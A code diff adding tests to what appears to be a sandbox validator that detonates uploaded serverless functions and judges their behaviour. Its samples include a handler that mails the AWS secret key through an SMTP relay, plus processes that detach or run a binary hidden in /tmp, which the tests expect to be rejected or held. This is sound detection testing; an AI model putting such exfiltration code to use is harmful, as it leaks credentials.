@@ -156,3 +156,151 @@ async def test_adversarial_benign_samples_are_allowed(sample: str) -> None:
     plan = Detonation(egress=tuple(meta.get("egress", ())), secrets=tuple(meta.get("secrets", ())))
     stage = await _run(directory, runtime, plan)
     assert stage.verdict is Verdict.ALLOW, stage.findings
+
+
+async def test_a_tool_wrapper_calling_an_undeclared_api_is_allowed_with_notes(
+    tmp_path: Path,
+) -> None:
+    """What a benign function does: runs a program with arguments, calls a public API its
+    spec does not list (blocked when serving), and writes a temporary file (O_TMPFILE opens
+    /tmp itself). Notes, with evidence; nothing held."""
+    code = _code(tmp_path, {"handler.py": (
+        "import subprocess, tempfile, urllib.request\n"
+        "def handle(event, context):\n"
+        "    with tempfile.TemporaryFile() as f:\n"
+        "        f.write(b'x')\n"
+        "    subprocess.run(['date', '+%s'], capture_output=True, check=False)\n"
+        "    try:\n"
+        "        urllib.request.urlopen('https://api.frankfurter.app/latest', timeout=2)\n"
+        "    except Exception:\n"
+        "        pass\n"
+    )})  # fmt: skip
+    stage = await _run(code, "python3.11")
+    assert stage.verdict is Verdict.ALLOW, stage.findings
+    assert {"detonation-process", "detonation-undeclared-host"} <= _rules(stage)
+    assert all(f.evidence for f in stage.findings)
+
+
+async def test_a_node_handler_whose_promise_never_settles_completes(tmp_path: Path) -> None:
+    """The sink's empty answer breaks JSON.parse in a response callback: the call's promise
+    never settles and the event loop drains. The detonation is over, not incomplete."""
+    code = _code(tmp_path, {"handler.js": (
+        "const https = require('https');\n"
+        "exports.handle = async () => new Promise((resolve, reject) => {\n"
+        "  https.get('https://api.frankfurter.app/latest', (res) => {\n"
+        "    let b = ''; res.on('data', (d) => (b += d));\n"
+        "    res.on('end', () => resolve(JSON.parse(b)));\n"
+        "  }).on('error', reject);\n"
+        "});\n"
+    )})  # fmt: skip
+    stage = await _run(code, "nodejs20")
+    assert "detonation-incomplete" not in _rules(stage), stage.findings
+    assert stage.verdict is Verdict.ALLOW, stage.findings
+
+
+@pytest.mark.parametrize(
+    ("runtime", "source"),
+    [
+        ("python3.11", "import subprocess\ndef handle(e, c):\n"
+         "    subprocess.Popen(['sleep', '60'], start_new_session=True)\n"),
+        ("python3.11", "import subprocess\ndef handle(e, c):\n"
+         "    subprocess.run('date', shell=True)\n"),
+        ("python3.11", "import subprocess, sys\ndef handle(e, c):\n"
+         "    subprocess.run([sys.executable, '-c', 'pass'])\n"),
+        ("python3.11", "import os, shutil, subprocess\ndef handle(e, c):\n"
+         "    shutil.copy('/bin/true', '/tmp/.u'); os.chmod('/tmp/.u', 0o755)\n"
+         "    subprocess.run(['./.u'], cwd='/tmp')\n"),
+        ("nodejs20", "const cp = require('child_process');\n"
+         "exports.handle = async () => { cp.execSync('date'); };\n"),
+        ("nodejs20", "const cp = require('child_process');\n"
+         "exports.handle = async () => { cp.spawnSync('/bin/true', [], { shell: true }); };\n"),
+    ],
+    ids=["py-new-session", "py-shell", "py-inline-code", "py-program-in-tmp", "node-exec",
+         "node-shell-option"],
+)  # fmt: skip
+async def test_processes_that_hide_or_run_text_are_held(
+    tmp_path: Path, runtime: str, source: str
+) -> None:
+    name = "handler.py" if runtime.startswith("python") else "handler.js"
+    stage = await _run(_code(tmp_path, {name: source}), runtime)
+    held = [f for f in stage.findings if f.rule == "detonation-process"]
+    assert any(f.severity is Verdict.REVIEW for f in held), stage.findings
+    assert stage.verdict is Verdict.REVIEW
+
+
+def _our_detonations() -> set[str]:
+    """The command lines of this process's descendants that belong to a detonation."""
+    parents: dict[int, int] = {}
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                stat = (entry / "stat").read_text()
+                parents[int(entry.name)] = int(stat.rsplit(")", 1)[1].split()[1])
+            except (OSError, ValueError, IndexError):
+                continue
+    found = set()
+    for pid in parents:
+        ancestor = parents.get(pid)
+        while ancestor not in (None, 0, 1, os.getpid()):
+            ancestor = parents.get(ancestor)
+        if ancestor == os.getpid():
+            try:
+                cmdline = (Path("/proc") / str(pid) / "cmdline").read_bytes().replace(b"\0", b" ")
+            except OSError:
+                continue
+            if b"sless-detonate-" in cmdline:
+                found.add(cmdline.decode(errors="replace"))
+    return found
+
+
+async def test_a_cancelled_detonation_leaves_nothing_running(tmp_path: Path) -> None:
+    """The pipeline cancels the detonation when the entrypoint does not load: its sandbox
+    and recording network go with it; only the network made ready for the next upload
+    stays."""
+    import asyncio
+
+    from sless.validation import recording
+
+    code = _code(tmp_path, {"handler.py": "import time\ndef handle(e, c):\n    time.sleep(30)\n"})
+    running = asyncio.ensure_future(_run(code, "python3.11", Detonation(budget_s=60.0)))
+    await asyncio.sleep(0.5)
+    running.cancel()
+    with pytest.raises(asyncio.CancelledError):
+        await running
+    ready = recording._ready
+    assert ready is not None
+    for _ in range(100):  # discarding runs in a thread: wait for it, then check
+        left = {c for c in _our_detonations() if str(ready.work) not in c}
+        if not left:
+            break
+        await asyncio.sleep(0.1)
+    assert not left, left
+
+
+@pytest.mark.parametrize("secure", [False, True], ids=["smtp-587", "smtps-465"])
+async def test_a_canary_mailed_through_the_declared_relay_is_rejected(
+    tmp_path: Path, secure: bool
+) -> None:
+    """SMTP speaks first: a sink that waits for the client hears nothing. The function may
+    log in to its declared relay with its own secret; mailing another secret is a leak."""
+    connect = (
+        "smtplib.SMTP_SSL('smtp.mail.example.com', 465, timeout=3)"
+        if secure
+        else "smtplib.SMTP('smtp.mail.example.com', 587, timeout=3)"
+    )
+    code = _code(tmp_path, {"handler.py": (
+        "import os, smtplib\n"
+        "def handle(event, context):\n"
+        f"    s = {connect}\n"
+        "    s.login('app', os.environ['SMTP_PASSWORD'])\n"
+        "    s.sendmail('app@example.com', ['ops@example.org'],\n"
+        "        'Subject: nightly\\r\\n\\r\\n' + os.environ['AWS_SECRET_ACCESS_KEY'])\n"
+        "    s.quit()\n"
+    )})  # fmt: skip
+    port = 465 if secure else 587
+    plan = Detonation(egress=(f"smtp.mail.example.com:{port}",), secrets=("SMTP_PASSWORD",))
+    stage = await _run(code, "python3.11", plan)
+    assert stage.verdict is Verdict.REJECT, stage.findings
+    leak = next(f for f in stage.findings if f.rule == "detonation-canary-exfiltration")
+    assert "env:AWS_SECRET_ACCESS_KEY" in leak.message
+    assert "env:SMTP_PASSWORD" not in leak.message
